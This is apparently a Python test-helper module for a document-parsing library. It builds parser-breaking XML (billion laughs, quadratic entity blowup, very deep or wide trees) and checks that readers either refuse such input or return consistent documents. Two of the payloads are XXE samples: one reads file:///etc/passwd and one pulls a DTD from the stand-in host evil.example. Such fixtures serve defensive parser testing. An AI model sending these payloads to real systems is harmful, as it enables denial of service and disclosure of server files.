"""Files made to break parsers, and what must hold of a document whatever it was read from."""

from __future__ import annotations

import contextlib
import time
from collections.abc import Callable

from provenance.errors import UnreadableDocumentError
from provenance.model import Document, Source

DEEP = 200_000
ATTRIBUTES = 60_000


def xml_bombs(root: str) -> dict[str, str]:
    """Return XML with this root element that is small and costs a careless parser much."""
    laughs = "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 10))
    return {
        "billion laughs": f'<!DOCTYPE {root} [<!ENTITY l0 "lol">{laughs}]><{root}>&l9;</{root}>',
        "quadratic": f'<!DOCTYPE {root} [<!ENTITY a "' + "a" * 50_000 + f'">]><{root}>' + "&a;" * 50_000 + f"</{root}>",
        "file": f'<!DOCTYPE {root} [<!ENTITY a SYSTEM "file:///etc/passwd">]><{root}>&a;</{root}>',
        "parameter": f'<!DOCTYPE {root} [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><{root}/>',
    }


def large_xml(before: str, name: str, after: str) -> dict[str, str]:
    """Return XML that is large in one way each."""
    attributes = " ".join(f'a{n}="{n}"' for n in range(ATTRIBUTES))
    return {
        "deep": before + f"<{name}>" * DEEP + f"</{name}>" * DEEP + after,
        "deep and open": before + f"<{name}>" * DEEP,
        "attributes": f"{before}<{name} {attributes}>x</{name}>{after}",
        "wide": before + f"<{name}>x</{name}>" * 50_000 + after,
        "references": f"{before}<{name}>{'&amp;&#x41;' * 100_000}</{name}>{after}",
    }


def holds(document: Document) -> None:
    """Check what every document promises: blocks in order within the text, places that exist, data that can be asked for."""
    at = 0
    visible = [block.visible for block in document.blocks]
    assert visible == sorted(visible, reverse=True)
    for block in document.blocks:
        assert at <= block.span.start < block.span.end <= len(document.text)
        at = block.span.end
        assert (document.source.text(block.span).line or 0) >= 1
    for link in document.links:
        assert 0 <= link.span.start <= link.span.end <= len(document.text)
        assert (document.source.field(link.key).line or 0) >= 1
    for item in (*document.images, *document.metadata):
        assert (document.source.field(item.key).line or 0) >= 1


def read_or_refused(read: Callable[[Source], Document], data: bytes, name: str = "x") -> Document | None:
    """Return what a reader makes of bytes; None where it says why it cannot."""
    try:
        document = read(Source(path=name, data=data))
    except UnreadableDocumentError:
        return None
    holds(document)
    return document


def seconds(read: Callable[[Source], Document], text: str) -> float:
    """Return how long a reader takes for a text that it may refuse."""
    start = time.process_time()
    with contextlib.suppress(UnreadableDocumentError):
        read(Source(path="x", data=text.encode()))
    return time.process_time() - start
